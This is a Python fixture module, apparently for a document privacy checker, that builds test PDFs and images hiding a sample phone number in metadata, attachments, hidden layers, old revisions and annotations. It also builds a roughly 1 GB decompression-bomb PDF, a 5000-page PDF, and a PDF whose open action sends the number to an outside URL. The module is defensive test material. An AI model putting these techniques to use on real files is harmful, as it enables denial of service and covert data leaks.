"""Hostile files built with pypdf and Pillow, each hiding a citizen's mobile number (or straining the
checker) the way the leaks of issue 18 did."""
import io
import zlib

from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, NumberObject,
                           StreamObject, TextStringObject)

from kiosk.privacy.samples import _font

MOBILE = "13912345678"


def _pdf_bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def blank_pages_pdf(pages: int = 5000) -> bytes:
    """Thousands of empty pages: cheap to send, costly to read page by page."""
    writer = PdfWriter()
    for _unused in range(pages):
        writer.add_blank_page(595, 842)
    return _pdf_bytes(writer)


def flate_bomb_pdf(expanded_mb: int = 1024) -> bytes:
    """One page whose content stream is about 1 MB compressed and `expanded_mb` MB once inflated."""
    squeezer, chunk = zlib.compressobj(9), b" " * (1024 * 1024)
    compressed = b"".join(squeezer.compress(chunk) for _unused in range(expanded_mb)) + squeezer.flush()
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    stream = StreamObject()
    stream._data = compressed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    return _pdf_bytes(writer)


def picture(text: str = MOBILE, size=(900, 200), ink=(0, 0, 0)) -> Image.Image:
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).text((30, 60), f"电话 {text}", font=_font(48), fill=ink)
    return image


def encoded(image: Image.Image, image_format: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


def jpeg_with_exif_and_comment(secret: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = secret                                    # ImageDescription
    exif.get_ifd(0x8825)[2] = (39.0, 54.0, 27.12)                 # GPS latitude
    return encoded(Image.new("RGB", (80, 60), "#8ab"), "JPEG", exif=exif, comment=secret.encode())


def png_with_text_chunks(secret: str) -> bytes:
    info = PngInfo()
    info.add_text("Comment", secret)
    info.add_itxt("Author", secret)
    return encoded(Image.new("RGB", (80, 60), "#8ab"), "PNG", pnginfo=info)


def animation(image_format: str, secret_frame: Image.Image) -> bytes:
    """Two frames: an empty one, then the secret (a reader of the first frame sees nothing)."""
    first = Image.new("RGB", secret_frame.size, "white")
    return encoded(first, image_format, save_all=True, append_images=[secret_frame], duration=500, loop=0)


def _font_resources(writer: PdfWriter) -> DictionaryObject:
    font = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica")}))
    return DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})


def _page_with(writer: PdfWriter, content: bytes, resources: DictionaryObject | None = None):
    page = writer.add_blank_page(595, 842)
    stream = DecodedStreamObject()
    stream.set_data(content)
    page[NameObject("/Contents")] = writer._add_object(stream)
    page[NameObject("/Resources")] = resources or _font_resources(writer)
    return page


def _shown(text: str, y: int = 700) -> bytes:
    return f"BT /F1 24 Tf 60 {y} Td ({text}) Tj ET".encode()


def pdf_with_everything_hidden(secret: str) -> bytes:
    """A plain page, and the secret in every place a PDF keeps what its pages do not show."""
    from pypdf.annotations import Link
    writer = PdfWriter()
    _page_with(writer, _shown("Notice of road repairs"))
    writer.add_attachment("payees.txt", secret.encode())                     # an embedded file
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject(f"app.alert('{secret}');")})
    writer._root_object["/Names"][NameObject("/JavaScript")] = DictionaryObject(   # document JavaScript
        {NameObject("/Names"): ArrayObject([TextStringObject("hello"), writer._add_object(script)])})
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(f"https://x.cn/?{secret}")})
    writer.add_annotation(0, Link(rect=(60, 600, 300, 630), url=f"https://x.cn/tel/{secret}"))
    xmp = DecodedStreamObject()
    xmp.set_data(f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>{secret}</dc:creator></x:xmpmeta>'.encode())
    xmp.update({NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")})
    writer._root_object[NameObject("/Metadata")] = writer._add_object(xmp)
    writer.add_metadata({"/Author": secret})
    choice = writer._add_object(DictionaryObject({
        NameObject("/FT"): NameObject("/Ch"), NameObject("/T"): TextStringObject("payee"),
        NameObject("/Opt"): ArrayObject([TextStringObject("none"), TextStringObject(secret)]),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(1), NumberObject(1)])}))
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([choice])})
    return _pdf_bytes(writer)


def pdf_with_hidden_layer(secret: str) -> bytes:
    """The secret drawn inside an optional-content layer that is switched off."""
    writer = PdfWriter()
    layer = writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/OCG"),
                                                 NameObject("/Name"): TextStringObject("hidden")}))
    resources = _font_resources(writer)
    resources[NameObject("/Properties")] = DictionaryObject({NameObject("/L1"): layer})
    _page_with(writer, _shown("Notice") + b" /OC /L1 BDC " + _shown(secret, 500) + b" EMC", resources)
    writer._root_object[NameObject("/OCProperties")] = DictionaryObject({
        NameObject("/OCGs"): ArrayObject([layer]),
        NameObject("/D"): DictionaryObject({NameObject("/OFF"): ArrayObject([layer])})})
    return _pdf_bytes(writer)


def pdf_with_an_earlier_revision(secret: str) -> bytes:
    """A page that said the secret, then an incremental update that changed what it says: the first
    revision stays in the file, after its end-of-file marker."""
    writer = PdfWriter()
    _page_with(writer, _shown(secret))
    original = _pdf_bytes(writer)
    update = PdfWriter(io.BytesIO(original), incremental=True)
    content = DecodedStreamObject()
    content.set_data(_shown("Corrected: no number here"))
    update.pages[0][NameObject("/Contents")] = update._add_object(content)
    return _pdf_bytes(update)


def pdf_with_a_lying_text_layer(secret: str) -> bytes:
    """Digits drawn in Helvetica whose ToUnicode map says every glyph is an 'x'."""
    writer = PdfWriter()
    resources = _font_resources(writer)
    to_unicode = DecodedStreamObject()
    to_unicode.set_data(b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
                        b"1 begincodespacerange <00> <FF> endcodespacerange\n"
                        b"1 beginbfrange <20> <7E> <0078> endbfrange\nendcmap CMapName currentdict /CMap "
                        b"defineresource pop end end")
    resources["/Font"]["/F1"].get_object()[NameObject("/ToUnicode")] = writer._add_object(to_unicode)
    _page_with(writer, _shown(secret), resources)
    return _pdf_bytes(writer)


def pdf_with_a_drawn_free_text_note(secret: str) -> bytes:
    """A FreeText annotation with nothing in its text, whose appearance draws the secret."""
    writer = PdfWriter()
    resources = _font_resources(writer)
    page = _page_with(writer, _shown("Notice"), resources)
    appearance = DecodedStreamObject()
    appearance.set_data(b"BT /F1 24 Tf 5 10 Td (" + secret.encode() + b") Tj ET")
    appearance.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
                       NameObject("/BBox"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(300),
                                                         NumberObject(40)]),
                       NameObject("/Resources"): resources})
    note = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FreeText"),
        NameObject("/Rect"): ArrayObject([FloatObject(60), FloatObject(400), FloatObject(360), FloatObject(440)]),
        NameObject("/Contents"): TextStringObject(""), NameObject("/DA"): TextStringObject("/F1 24 Tf 0 g"),
        NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(appearance)})}))
    page[NameObject("/Annots")] = ArrayObject([note])
    return _pdf_bytes(writer)
